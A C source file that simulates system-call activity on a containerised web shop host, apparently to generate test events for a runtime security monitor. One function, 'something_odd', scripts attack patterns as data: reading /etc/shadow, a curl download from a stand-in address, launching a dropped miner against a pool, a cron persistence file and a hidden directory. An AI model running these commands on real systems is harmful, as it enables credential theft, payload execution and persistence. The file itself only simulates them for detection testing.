/*
 * Activity: web server and database in containers, a build, an administrator's shell, cron.
 *
 * Each activity is a plausible run of calls; `weights` says how often which profile has it. One in
 * ODD_ONE_IN is of the kind that stock rules watch for. A third of opens fail, most of them while a
 * program's start looks for libraries.
 */
#include "activity.h"

#include "base/arena.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>

#define ODD_ONE_IN 400
#define WORKERS    4

const char *const profile_names[PROFILE_COUNT] = { "mixed", "files", "forks", "network" };

static const struct box host = { .cgroups = "cpuset=/;cpu=/system.slice;memory=/system.slice",
                                 .ip = { 10, 0, 2, 15 } };
#define WEB_ID "3f6a1c9b7e20d4f8a5b6c7d8e9f00112233445566778899aabbccddeeff001122"
#define DB_ID  "b81d44e0c3fa1099887766554433221100ffeeddccbbaa998877665544332211"
static const struct box web = {
    .cgroups = "cpuset=/docker/" WEB_ID ";cpu=/docker/" WEB_ID ";memory=/docker/" WEB_ID,
    .json =
        "{\"container\":{\"Mounts\":[],\"env\":[],\"id\":\"3f6a1c9b7e20\",\"image\":\"nginx:1.25\","
        "\"imagedigest\":\"sha256:a484819eb60211f5299034ac80f6a681b06f89e65866ce91f356ed7c72af059c"
        "\",\"imageid\":\"e784f4560448b14a66f55c26e1b4dad2c2877cc73d001b7cd0b18e24a700a070\","
        "\"imagerepo\":\"nginx\",\"imagetag\":\"1.25\",\"ip\":\"172.17.0.2\",\"is_pod_sandbox\":"
        "false,\"labels\":{\"maintainer\":\"shop\"},\"name\":\"shop-web\",\"port_mappings\":[],"
        "\"privileged\":false,\"type\":0}}",
    .vpid_offset = 2000,
    .ip = { 172, 17, 0, 2 },
};
static const struct box db = {
    .cgroups = "cpuset=/docker/" DB_ID ";cpu=/docker/" DB_ID ";memory=/docker/" DB_ID,
    .json =
        "{\"container\":{\"Mounts\":[],\"env\":[],\"id\":\"b81d44e0c3fa\",\"image\":\"postgres:"
        "16\","
        "\"imagedigest\":\"sha256:4aea012537edfad80f98d870a36e6b90b4c09b27be7f4b4759d72db863baeebb"
        "\",\"imageid\":\"8e4fc9e184896b0d56cde02e4ae64ac0ba1e4e3dd9a5e5d6a4b5d9e5d6a4b5d9\","
        "\"imagerepo\":\"postgres\",\"imagetag\":\"16\",\"ip\":\"172.17.0.3\",\"is_pod_sandbox\":"
        "false,\"labels\":{},\"name\":\"shop-db\",\"port_mappings\":[],\"privileged\":false,"
        "\"type\":0}}",
    .vpid_offset = 2400,
    .ip = { 172, 17, 0, 3 },
};

struct machine {
    struct proc worker[WORKERS], postgres, bash, cron, make, agent;
};

static const char *const web_files[] = {
    "/usr/share/nginx/html/index.html",         "/usr/share/nginx/html/css/site.css",
    "/usr/share/nginx/html/js/app.js",          "/usr/share/nginx/html/img/logo.svg",
    "/usr/share/nginx/html/products/list.json", "/usr/share/nginx/html/favicon.ico",
};
static const char *const libraries[] = {
    "libc.so.6", "libselinux.so.1", "libpcre2-8.so.0", "libcap.so.2",
    "libm.so.6", "libz.so.1",       "libcrypto.so.3",  "libdl.so.2",
};
static const char *const sources[] = {
    "src/main.c",          "src/list.c",       "src/list.h",       "src/server/accept.c",
    "src/server/accept.h", "include/config.h", "src/store/page.c", "src/store/page.h",
    "src/util/str.c",      "src/util/str.h",
};
static const char request[] = "GET /products/list.json?page=2 HTTP/1.1\r\nHost: shop.example\r\n"
                              "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n";
static const char response[] =
    "HTTP/1.1 200 OK\r\nServer: nginx/1.25.3\r\nContent-Type: "
    "application/json\r\nContent-Length: 2318\r\nConnection: keep-alive\r\n";

#define PICK(gen, array) ((array)[gen_below(gen, sizeof(array) / sizeof((array)[0]))])

static void noise(struct gen *g, char *p, size_t n)
{
    static const char letters[] =
        "etaoin shrdlu cmfwyp vbgkqjxz_0123456789<>/=\"{}\n ETAOINSHRDLU.,-+";
    for (size_t i = 0; i < n; i += 8) {
        uint64_t r = gen_random(g);
        for (size_t j = i; j < n && j < i + 8; j++, r >>= 8) {
            p[j] = letters[r % (sizeof letters - 1)];
        }
    }
}

static void read_file(struct gen *g, struct proc *p, const char *path, unsigned reads)
{
    char data[80];
    int fd = act_open(g, p, path, OPEN_READ | OPEN_CLOEXEC, 0);
    for (unsigned i = 0; i < reads; i++) {
        noise(g, data, sizeof data);
        act_read(g, p, fd, data, sizeof data);
    }
    act_read(g, p, fd, "", 0);
    act_close(g, p, fd);
}

static void write_file(struct gen *g, struct proc *p, const char *path, unsigned writes)
{
    char data[80];
    int fd = act_open(g, p, path, OPEN_WRITE | OPEN_CREATE | OPEN_TRUNC, 0);
    for (unsigned i = 0; i < writes; i++) {
        noise(g, data, sizeof data);
        act_write(g, p, fd, data, sizeof data);
    }
    act_close(g, p, fd);
}

/* What the loader does when a program starts. */
static void load_program(struct gen *g, struct proc *p, unsigned nlibraries)
{
    static const char elf[80] = "\177ELF\2\1\1\3\0\0\0\0\0\0\0\0\3\0>\0\1\0\0\0";
    char path[128];
    act_brk(g, p);
    act_open(g, p, "/etc/ld.so.preload", OPEN_READ, -ENOENT);
    read_file(g, p, "/etc/ld.so.cache", 0);
    for (unsigned i = 0; i < nlibraries; i++) {
        const char *name = PICK(g, libraries);
        if (gen_below(g, 3) == 0) {
            snprintf(path, sizeof path, "/usr/local/lib/%s", name);
            act_open(g, p, path, OPEN_READ | OPEN_CLOEXEC, -ENOENT);
        }
        snprintf(path, sizeof path, "/lib/x86_64-linux-gnu/%s", name);
        int fd = act_open(g, p, path, OPEN_READ | OPEN_CLOEXEC, 0);
        act_read(g, p, fd, elf, 832);
        act_mmap(g, p, fd);
        act_mmap(g, p, fd);
        act_close(g, p, fd);
    }
    act_open(g, p, "/usr/lib/locale/locale-archive", OPEN_READ, -ENOENT);
}

static struct proc spawn(struct gen *g, struct proc *parent, const char *exepath,
                         const char *const argv[])
{
    struct proc child = act_fork(g, parent);
    act_exec(g, &child, exepath, argv);
    load_program(g, &child, 1 + gen_below(g, 3));
    return child;
}

static void web_request(struct machine *machine, struct gen *g)
{
    struct proc *p = &machine->worker[gen_below(g, WORKERS)];
    const uint8_t client[4] = { 203, 0, 113, (uint8_t)gen_below(g, 250) };
    act_wait(g, p);
    int fd = act_accept(g, p, client, (uint16_t)(1024 + gen_below(g, 60000)), 443);
    for (unsigned i = 1 + gen_below(g, 4); i > 0; i--) {
        const char *path = PICK(g, web_files);
        act_receive(g, p, fd, request, sizeof request - 1);
        act_stat(g, p, path, 0);
        if (gen_below(g, 3) == 0) {
            act_open(g, p, "/usr/share/nginx/html/products/thumb.webp", OPEN_READ, -ENOENT);
        }
        read_file(g, p, path, 1 + gen_below(g, 3));
        act_send(g, p, fd, response, sizeof response - 1 + gen_below(g, 4000));
        act_write(g, p, 2, request, 64);
        act_wait(g, p);
    }
    act_close(g, p, fd);
}

static void database_query(struct machine *machine, struct gen *g)
{
    static const char query[] =
        "SELECT id, name, price FROM products WHERE shop = $1 ORDER BY rank";
    struct proc *client = &machine->worker[gen_below(g, WORKERS)];
    struct proc *p = &machine->postgres;
    uint16_t port = (uint16_t)(32768 + gen_below(g, 28000));
    int fd = act_connect(g, client, db.ip, 5432, -EINPROGRESS);
    int peer = act_accept(g, p, web.ip, port, 5432);
    act_futex(g, p);
    for (unsigned i = 1 + gen_below(g, 6); i > 0; i--) {
        char path[96];
        act_send(g, client, fd, query, sizeof query - 1);
        act_receive(g, p, peer, query, sizeof query - 1);
        snprintf(path, sizeof path, "base/16384/%u", 16400 + gen_below(g, 200));
        read_file(g, p, path, 2);
        act_send(g, p, peer, response, 900);
        act_receive(g, client, fd, response, 900);
        act_wait(g, client);
    }
    act_close(g, client, fd);
    act_close(g, p, peer);
}

static void compile(struct machine *machine, struct gen *g)
{
    char path[128];
    char object[160];
    const char *source = PICK(g, sources);
    snprintf(object, sizeof object, "build/%s.o", source);
    const char *argv[] = { "cc", "-O2", "-Wall", "-Iinclude", "-c", source, "-o", object, NULL };
    struct proc p = spawn(g, &machine->make, "/usr/bin/gcc", argv);
    for (unsigned i = 2 + gen_below(g, 12); i > 0; i--) {
        const char *name = PICK(g, sources);
        if (gen_below(g, 2)) {
            snprintf(path, sizeof path, "/usr/local/include/%s", name);
            act_open(g, &p, path, OPEN_READ, -ENOENT);
        }
        snprintf(path, sizeof path, "/home/dev/shop/%s", name);
        read_file(g, &p, path, 1 + gen_below(g, 4));
    }
    write_file(g, &p, object, 1 + gen_below(g, 8));
    act_rename(g, &p, object, "build/last.o");
    act_exit(g, &p, 0);
}

static void shell_command(struct machine *machine, struct gen *g)
{
    static const char *const commands[][4] = {
        { "/usr/bin/ls", "ls", "-la", "/home/dev" },
        { "/usr/bin/grep", "grep", "-rn", "accept" },
        { "/usr/bin/git", "git", "status", "--short" },
        { "/usr/bin/cat", "cat", "README.md", NULL },
        { "/usr/bin/sed", "sed", "s/a/b/", "notes.txt" },
        { "/usr/bin/date", "date", "+%s", NULL },
    };
    const char *const *command = PICK(g, commands);
    const char *argv[] = { command[1], command[2], command[3], NULL };
    struct proc p = spawn(g, &machine->bash, command[0], argv);
    read_file(g, &p, "/home/dev/shop/README.md", 2);
    act_write(g, &p, 1, response, 70);
    act_exit(g, &p, (int)gen_below(g, 2));
}

static void cron_job(struct machine *machine, struct gen *g)
{
    static const char *const sh[] = { "sh", "-c", "run-parts --report /etc/cron.hourly", NULL };
    static const char *const rotate[] = { "logrotate", "/etc/logrotate.conf", NULL };
    struct proc p = spawn(g, &machine->cron, "/usr/bin/dash", sh);
    struct proc q = spawn(g, &p, "/usr/sbin/logrotate", rotate);
    read_file(g, &q, "/etc/logrotate.conf", 2);
    read_file(g, &q, "/var/lib/logrotate/status", 2);
    write_file(g, &q, "/var/lib/logrotate/status.tmp", 3);
    act_rename(g, &q, "/var/lib/logrotate/status.tmp", "/var/lib/logrotate/status");
    act_exit(g, &q, 0);
    act_exit(g, &p, 0);
}

static void walk_files(struct machine *machine, struct gen *g)
{
    char path[160];
    struct proc *p = &machine->agent;
    for (unsigned i = 8 + gen_below(g, 24); i > 0; i--) {
        unsigned n = gen_below(g, 5000);
        bool missing = gen_below(g, 3) == 0;
        snprintf(path, sizeof path, "/srv/data/%02x/%02x/object-%u.bin", n & 0xff, n >> 6 & 0xff,
                 n);
        act_stat(g, p, path, missing ? -ENOENT : 0);
        if (missing) {
            act_open(g, p, path, OPEN_READ, -ENOENT);
        } else if (gen_below(g, 4) == 0) {
            write_file(g, p, path, 2);
        } else {
            read_file(g, p, path, 2);
        }
        if (gen_below(g, 16) == 0) {
            act_unlink(g, p, path);
        }
    }
}

/* What stock rules tell people about. */
static void something_odd(struct machine *machine, struct gen *g)
{
    static const char *const sh[] = { "sh", "-c", "id; cat /etc/shadow", NULL };
    static const char *const cat[] = { "cat", "/etc/shadow", NULL };
    static const char *const curl[] = { "curl", "-o", "/tmp/x", "http://198.51.100.7/x", NULL };
    static const char *const dropped[] = { "/tmp/x", "--pool", "198.51.100.7:3333", NULL };
    static const uint8_t pool[4] = { 198, 51, 100, 7 };
    struct proc p;
    switch (gen_below(g, 5)) {
    case 0:
        p = spawn(g, &machine->bash, "/usr/bin/cat", cat);
        read_file(g, &p, "/etc/shadow", 1);
        break;
    case 1:
        p = spawn(g, &machine->worker[0], "/usr/bin/dash", sh);
        break;
    case 2:
        p = spawn(g, &machine->worker[1], "/usr/bin/curl", curl);
        act_close(g, &p, act_connect(g, &p, pool, 80, 0));
        write_file(g, &p, "/tmp/x", 4);
        act_chmod(g, &p, "/tmp/x", 0x49);
        break;
    case 3:
        p = spawn(g, &machine->worker[2], "/tmp/x", dropped);
        act_close(g, &p, act_connect(g, &p, pool, 3333, 0));
        break;
    default:
        p = spawn(g, &machine->cron, "/usr/bin/dash", sh);
        write_file(g, &p, "/etc/cron.d/update", 1);
        act_mkdir(g, &p, "/usr/bin/.hidden");
        break;
    }
    act_exit(g, &p, 0);
}

static const struct {
    void (*act)(struct machine *machine, struct gen *g);
    uint8_t weights[PROFILE_COUNT]; /* mixed, files, forks, network */
} activities[] = {
    { web_request, { 30, 5, 0, 60 } }, { database_query, { 15, 5, 0, 35 } },
    { compile, { 20, 10, 30, 0 } },    { shell_command, { 15, 0, 50, 3 } },
    { cron_job, { 5, 0, 20, 2 } },     { walk_files, { 15, 80, 0, 0 } },
};

void machine_act(struct machine *machine, struct gen *g, enum profile profile)
{
    if (gen_below(g, ODD_ONE_IN) == 0) {
        something_odd(machine, g);
        return;
    }
    uint32_t at = gen_below(g, 100);
    for (size_t i = 0; i < sizeof activities / sizeof activities[0]; i++) {
        if (at < activities[i].weights[profile]) {
            activities[i].act(machine, g);
            return;
        }
        at -= activities[i].weights[profile];
    }
}

void machine_start(struct machine *machine, struct gen *g)
{
    (void)machine;
    act_container(g, &web);
    act_container(g, &db);
}

struct running {
    struct proc *keep; /* where it acts from; NULL: it only is there */
    const struct box *box;
    int64_t pid, ppid;
    const char *comm, *exepath, *cwd;
    const char *argv[4];
    uint32_t uid, tty;
};

static int start_running(struct state *state, const struct running *r)
{
    struct proc p = { .pid = r->pid,
                      .ppid = r->ppid,
                      .sid = r->tty ? 900 : r->pid,
                      .vpgid = r->pid - r->box->vpid_offset,
                      .box = r->box,
                      .cwd = r->cwd,
                      .uid = r->uid,
                      .gid = r->uid,
                      .tty = r->tty,
                      .loginuid = r->tty ? (int64_t)r->uid : -1,
                      .next_fd = PROC_FIRST_FD };
    proc_set(&p, r->comm, r->exepath, r->argv);
    if (r->keep) {
        *r->keep = p;
    }
    return proc_existing(state, &p);
}

static int fill_users(struct state *state)
{
    static const struct user users[] = {
        { 0, 0, { "root", 4 }, { "/root", 5 }, { "/bin/bash", 9 } },
        { 33, 33, { "www-data", 8 }, { "/var/www", 8 }, { "/usr/sbin/nologin", 17 } },
        { 101, 101, { "nginx", 5 }, { "/nonexistent", 12 }, { "/bin/false", 10 } },
        { 1000, 1000, { "dev", 3 }, { "/home/dev", 9 }, { "/bin/bash", 9 } },
    };
    int r = 0;
    for (size_t i = 0; i < sizeof users / sizeof users[0] && r == 0; i++) {
        struct group group = { users[i].gid, users[i].name };
        r = state_add_user(state, STR(""), &users[i]);
        r = r ? r : state_add_group(state, STR(""), &group);
    }
    return r;
}

struct machine *machine_new(struct state *state)
{
    struct machine *m = mem_zalloc(sizeof *m);
    if (!m) {
        return NULL;
    }
    const struct running all[] = {
        { NULL, &host, 1, 0, "systemd", "/usr/lib/systemd/systemd", "/", { "/sbin/init" }, 0, 0 },
        { NULL, &host, 700, 1, "sshd", "/usr/sbin/sshd", "/", { "/usr/sbin/sshd", "-D" }, 0, 0 },
        { NULL, &host, 880, 700, "sshd", "/usr/sbin/sshd", "/", { "sshd: dev@pts/0" }, 1000, 0 },
        { &m->bash,
          &host,
          900,
          880,
          "bash",
          "/usr/bin/bash",
          "/home/dev",
          { "-bash" },
          1000,
          34816 },
        { &m->make,
          &host,
          950,
          900,
          "make",
          "/usr/bin/make",
          "/home/dev/shop",
          { "make", "-j2" },
          1000,
          34816 },
        { &m->cron,
          &host,
          650,
          1,
          "cron",
          "/usr/sbin/cron",
          "/",
          { "/usr/sbin/cron", "-f" },
          0,
          0 },
        { &m->agent,
          &host,
          660,
          1,
          "backupd",
          "/usr/sbin/backupd",
          "/",
          { "/usr/sbin/backupd" },
          0,
          0 },
        { NULL,
          &host,
          1900,
          1,
          "containerd-shim",
          "/usr/bin/containerd-shim-runc-v2",
          "/",
          { "/usr/bin/containerd-shim-runc-v2" },
          0,
          0 },
        { NULL,
          &web,
          2001,
          1900,
          "nginx",
          "/usr/sbin/nginx",
          "/",
          { "nginx: master process nginx" },
          0,
          0 },
        { &m->worker[0],
          &web,
          2029,
          2001,
          "nginx",
          "/usr/sbin/nginx",
          "/",
          { "nginx: worker process" },
          101,
          0 },
        { &m->worker[1],
          &web,
          2030,
          2001,
          "nginx",
          "/usr/sbin/nginx",
          "/",
          { "nginx: worker process" },
          101,
          0 },
        { &m->worker[2],
          &web,
          2031,
          2001,
          "nginx",
          "/usr/sbin/nginx",
          "/",
          { "nginx: worker process" },
          101,
          0 },
        { &m->worker[3],
          &web,
          2032,
          2001,
          "nginx",
          "/usr/sbin/nginx",
          "/",
          { "nginx: worker process" },
          101,
          0 },
        { NULL,
          &host,
          2390,
          1,
          "containerd-shim",
          "/usr/bin/containerd-shim-runc-v2",
          "/",
          { "/usr/bin/containerd-shim-runc-v2" },
          0,
          0 },
        { &m->postgres,
          &db,
          2401,
          2390,
          "postgres",
          "/usr/lib/postgresql/16/bin/postgres",
          "/var/lib/postgresql/data",
          { "postgres" },
          999,
          0 },
    };
    int r = fill_users(state);
    for (size_t i = 0; i < sizeof all / sizeof all[0] && r == 0; i++) {
        r = start_running(state, &all[i]);
    }
    if (r < 0) {
        free(m);
        return NULL;
    }
    return m;
}

void machine_free(struct machine *machine)
{
    free(machine);
}
